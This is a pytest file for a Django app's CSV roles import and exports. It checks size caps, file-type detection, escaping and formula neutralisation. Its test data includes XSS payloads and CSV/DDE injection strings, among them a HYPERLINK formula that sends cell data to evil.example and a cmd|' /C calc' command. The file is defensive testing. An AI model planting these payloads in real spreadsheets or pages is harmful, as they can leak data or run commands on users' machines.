"""Uploads and CSV files: what an upload may be, where it goes, and what a spreadsheet runs.

The one upload in Pathways is the roles import (plans:roles-import, plans.forms.ImportForm): a
CSV file read in the request and never stored. Its malformed-file cases that
tests/plans/test_csv_io.py already covers (Latin-1, missing and unknown columns, blank lines,
too few cells, a broken quote, the row limit) are not repeated here.
"""

import csv
import io
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import Resolver404, resolve, reverse
from django.utils import timezone

from plans.csv_io import MAX_BYTES, ImportResult, RowError, plan_export_csv, roles_terms_import
from plans.models import LeadershipPlan, Role
from tests.factories import RoleFactory, TermFactory
from tests.security.db import rows_written

pytestmark = pytest.mark.django_db

HEADER = "role,term_months,person_email,starts_on,ends_on"
GOOD = f"{HEADER}\nSecretary,24,,,\n".encode()
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("roles.csv", GOOD)
    return out.getvalue()


def _import(client: Client, community, name: str, data: bytes, content_type: str = "text/csv"):
    """POST `data` as the file `name` to community's import page; the response and rows written."""
    before = rows_written()
    response = client.post(
        reverse("plans:roles-import", kwargs={"slug": community.slug}),
        {"file": SimpleUploadedFile(name, data, content_type=content_type)},
    )
    return response, rows_written() - before


# Uploads: size, type, storage


def test_a_csv_within_the_size_limit_is_imported(client_as, community):
    # The good case of the refusals below: the same page and file, one byte under the limit.
    data = GOOD + b"\n" * (MAX_BYTES - len(GOOD))
    assert len(data) == MAX_BYTES

    response, written = _import(client_as("organiser"), community, "roles.csv", data)

    assert response.status_code == 302
    assert list(Role.objects.values_list("title", flat=True)) == ["Secretary"]
    assert written > 0


def test_a_csv_over_the_size_limit_is_refused_with_the_limit_and_nothing_written(
    client_as, community
):
    data = GOOD + b"\n" * (MAX_BYTES + 1 - len(GOOD))

    response, written = _import(client_as("organiser"), community, "roles.csv", data)

    assert response.status_code == 200
    assert "The file is too large: at most 5 MB." in response.text
    assert written == 0
    assert not Role.objects.exists()


@pytest.mark.parametrize(
    ("name", "data", "content_type", "message"),
    [
        (
            "roles.csv",
            b"<!DOCTYPE html><html><body><script>alert(1)</script>role,term_months</body></html>",
            "text/csv",
            "This is not a CSV file: it looks like a web page (HTML or XML).",
        ),
        (
            "roles.csv",
            b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "text/csv",
            "This is not a CSV file: it looks like a web page (HTML or XML).",
        ),
        ("roles.csv", PNG, "image/png", "This is not a CSV file: it looks like a PNG image."),
        (
            "roles.csv",
            _zip(),
            "application/zip",
            "This is not a CSV file: it looks like an Excel workbook or another ZIP archive.",
        ),
        (
            "roles.csv",
            b"role,term_months\nSecretary,24\x00\x01\x02\n",
            "text/csv",
            "This is not a CSV file: it holds binary data.",
        ),
        # A good CSV under a name that is not a CSV's: a browser would send it as that type.
        (
            "roles.html",
            GOOD,
            "text/html",
            "Only a CSV file can be imported: its name ends with .csv (or .txt).",
        ),
        (
            "roles.png",
            PNG,
            "image/png",
            "Only a CSV file can be imported: its name ends with .csv (or .txt).",
        ),
        (
            "roles.zip",
            _zip(),
            "application/zip",
            "Only a CSV file can be imported: its name ends with .csv (or .txt).",
        ),
    ],
    ids=["html", "svg", "png", "zip", "binary", "html-name", "png-name", "zip-name"],
)
def test_a_file_that_is_not_a_csv_is_refused_with_a_message_and_nothing_written(
    client_as, community, name, data, content_type, message
):
    response, written = _import(client_as("organiser"), community, name, data, content_type)

    assert response.status_code == 200
    assert message in response.text
    assert written == 0
    assert not Role.objects.exists()


def test_an_uploaded_page_is_never_echoed_back_as_html(client_as, community):
    # given: a "CSV" whose header and cells are markup (not at the file's start, so read as CSV)
    data = b'role,<script>alert("h")</script>\n<img src=x onerror=alert(1)>,24\n'

    response, written = _import(client_as("organiser"), community, "roles.csv", data)

    # then: refused, and every value shown back is escaped
    assert response.status_code == 200
    assert "Pathways does not know: &lt;script&gt;alert(&quot;h&quot;)&lt;/script&gt;" in (
        response.text
    )
    assert "<script>alert" not in response.text
    assert "<img src=x" not in response.text
    assert written == 0


def test_an_imported_file_is_never_stored_and_no_url_serves_uploads(client_as, community):
    # when: a good import
    response, _written = _import(client_as("organiser"), community, "roles.csv", GOOD)

    # then: nothing was kept in the file storage
    assert response.status_code == 302
    assert default_storage.listdir("") == ([], [])
    # and no URL serves MEDIA_URL (nor the import under its own name): nothing uploaded is ever
    # served back, as HTML or otherwise
    for path in (f"/{settings.MEDIA_URL}roles.csv", f"/{settings.MEDIA_URL}x.html"):
        with pytest.raises(Resolver404):
            resolve(path)
        assert client_as("organiser").get(path).status_code == 404


def test_an_upload_let_through_is_kept_in_memory_not_in_a_temporary_file():
    # Django writes an upload bigger than FILE_UPLOAD_MAX_MEMORY_SIZE to a temporary file on
    # disk; no request bigger than the cap gets that far.
    assert (
        MAX_BYTES
        < settings.PATHWAYS_UPLOAD_MAX_REQUEST_SIZE
        <= settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    )


def _huge_upload(client: Client, url: str):
    client.raise_request_exception = False  # answered 400, as a browser would see it
    data = b"role\n" + b"x" * settings.PATHWAYS_UPLOAD_MAX_REQUEST_SIZE
    return client.post(url, {"file": SimpleUploadedFile("roles.csv", data, "text/csv")})


def test_a_request_over_the_upload_cap_is_refused_unread_and_nothing_written(client_as, community):
    client = client_as("organiser")
    before = rows_written()

    response = _huge_upload(client, reverse("plans:roles-import", kwargs={"slug": community.slug}))

    assert response.status_code == 400
    assert rows_written() == before
    assert not Role.objects.exists()


@pytest.mark.parametrize("url", ["/accounts/login/", "/accounts/signup/", "/"])
def test_anyone_posting_a_huge_file_to_any_page_is_refused_unread(db, url):
    # given: a visitor with a CSRF cookie, as anyone gets from the login page
    client = Client(enforce_csrf_checks=True)
    client.get("/accounts/login/")
    assert settings.CSRF_COOKIE_NAME in client.cookies

    # when: Django parses the POST to look for its CSRF token (the test client skips the check
    # unless told not to): without the cap, the file would go to a temporary file on disk
    response = _huge_upload(client, url)

    assert response.status_code == 400
    assert default_storage.listdir("") == ([], [])


def test_a_request_with_more_than_one_file_is_refused_and_nothing_written(client_as, community):
    client = client_as("organiser")
    client.raise_request_exception = False  # answered 400, as a browser would see it
    before = rows_written()

    response = client.post(
        reverse("plans:roles-import", kwargs={"slug": community.slug}),
        {
            "file": SimpleUploadedFile("roles.csv", GOOD, content_type="text/csv"),
            "other": SimpleUploadedFile("more.csv", GOOD, content_type="text/csv"),
        },
    )

    assert response.status_code == 400
    assert rows_written() == before
    assert not Role.objects.exists()


def test_form_fields_beyond_the_memory_limit_are_refused_and_nothing_written(client_as, community):
    client = client_as("organiser")
    client.raise_request_exception = False  # answered 400, as a browser would see it
    before = rows_written()

    response = client.post(
        reverse("plans:roles-import", kwargs={"slug": community.slug}),
        {
            "file": SimpleUploadedFile("roles.csv", GOOD, content_type="text/csv"),
            "padding": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1),
        },
    )

    assert response.status_code == 400
    assert rows_written() == before
    assert not Role.objects.exists()


# CSV imports with malformed files (those tests/plans/test_csv_io.py does not cover)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_utf16_file_with_accents_is_read_as_it_is(community, encoding):
    text = f"{HEADER}\nPrésidente,24,,,\nTrésorière,12,,,\n"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data  # "utf-16" adds the platform's byte order mark; this adds BE's

    result = roles_terms_import(community=community, data=data)

    assert result == ImportResult(roles_created=2, terms_created=0, errors=[])
    assert sorted(Role.objects.values_list("title", flat=True)) == ["Présidente", "Trésorière"]


def test_a_utf16_file_cut_in_half_a_character_is_refused_naming_the_encoding(community):
    data = f"{HEADER}\nPrésidente,24,,,\n".encode("utf-16")[:-1]

    result = roles_terms_import(community=community, data=data)

    assert result.errors == [RowError(0, "The file says it is in UTF-16 but is not.")]
    assert not Role.objects.exists()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_nul_character_in_a_text_file_is_refused_as_binary(community, encoding):
    data = f"{HEADER}\nTreas\x00urer,24,,,\n".encode(encoding)

    result = roles_terms_import(community=community, data=data)

    assert result.errors == [
        RowError(
            0,
            "This is not a CSV file: it holds binary data. In your spreadsheet, save it as "
            "“CSV UTF-8” and upload that.",
        )
    ]
    assert not Role.objects.exists()


def test_a_missing_required_column_is_named(community):
    result = roles_terms_import(community=community, data=b"title,term_months\nChair,24\n")

    assert RowError(1, "The header lacks these columns: role.") in result.errors
    assert not Role.objects.exists()


def test_a_line_with_too_many_cells_is_refused_with_its_line(community):
    data = f"{HEADER}\nSecretary,24,,,\nTreasurer,24,,,,=1+2\n".encode()

    result = roles_terms_import(community=community, data=data)

    assert result.errors == [RowError(3, "This line has 6 cells where the header has 5.")]
    assert not Role.objects.exists()


def test_a_ten_thousand_character_cell_is_refused_with_its_line_and_shown_cut_short(community):
    data = f"{HEADER}\n{'T' * 10_000},24,,,\nChair,{'9' * 10_000},,,\n".encode()

    result = roles_terms_import(community=community, data=data)

    assert result.errors == [
        RowError(2, "role: Ensure this value has at most 200 characters (it has 10000)."),
        RowError(3, f"term_months: “{'9' * 40}…” is not a whole number from 1 to 32767."),
    ]
    assert not Role.objects.exists()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r-1+2",
]


@pytest.fixture
def plan(community):
    return LeadershipPlan.objects.create(
        community=community, starts_on=date(2026, 1, 1), ends_on=date(2029, 1, 1)
    )


def test_formula_titles_import_as_text_and_every_one_is_neutralised_in_the_export(community, plan):
    # given: a file whose role titles are formulas (quoted: two hold a comma or a line break)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["role", "term_months"])
    for title in FORMULAS:
        writer.writerow([title, "12"])

    # when
    result = roles_terms_import(community=community, data=out.getvalue().encode())

    # then: imported as plain text (the tab and CR are whitespace around the cell, and go)
    assert result == ImportResult(roles_created=6, terms_created=0, errors=[])
    titles = {title.strip() for title in FORMULAS}
    assert set(Role.objects.values_list("title", flat=True)) == titles
    # and no exported cell starts as a spreadsheet formula
    exported = list(csv.reader(io.StringIO(plan_export_csv(plan=plan))))
    cells = [row[0] for row in exported[1:]]
    assert sorted(cells) == sorted("'" + title for title in titles)


def test_a_formula_where_an_email_belongs_is_refused_with_its_line(community):
    data = f'{HEADER}\nChair,24,"=HYPERLINK(""http://evil.example"")",2026-01-01,2028-01-01\n'

    result = roles_terms_import(community=community, data=data.encode())

    assert result.errors == [
        RowError(
            2,
            'No member of Wikimedia Testland has the email =HYPERLINK("http://evil.example").',
        )
    ]
    assert not Role.objects.exists()


# Every CSV export of the app


def test_the_plan_export_download_neutralises_formula_cells(client_as, community, plan):
    RoleFactory.create(community=community, title='=HYPERLINK("http://evil.example")')

    response = client_as("organiser").get(reverse("plans:plan-export", kwargs={"pk": plan.pk}))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example")'


def test_the_dashboard_csv_neutralises_formula_cells(client_as, community, member):
    # given: a seat at risk, its role titled as a formula, its term ending within the lead time
    today = timezone.localdate()
    role = RoleFactory.create(
        community=community, title="=cmd|' /C calc'!A0", succession_lead_months=6
    )
    TermFactory.create(
        role=role,
        person=member.person,
        starts_on=today - timedelta(days=300),
        ends_on=today + timedelta(days=30),
    )

    # when
    response = client_as("organiser").get(
        reverse(
            "dashboards:community-csv", kwargs={"slug": community.slug, "table": "seats-at-risk"}
        )
    )

    # then
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"


def test_the_app_has_no_other_csv_export():
    # The exports above are all there are: a new one must neutralise its cells too (safe_cell)
    # and be added here.
    root = Path(settings.BASE_DIR)
    found = sorted(
        str(path.relative_to(root))
        for app in ("config", "leadership", "mentoring", "plans", "reminders", "training")
        for path in (root / app).rglob("*.py")
        if "text/csv" in path.read_text()
    )
    assert found == ["leadership/dashboards/views.py", "plans/views.py"]
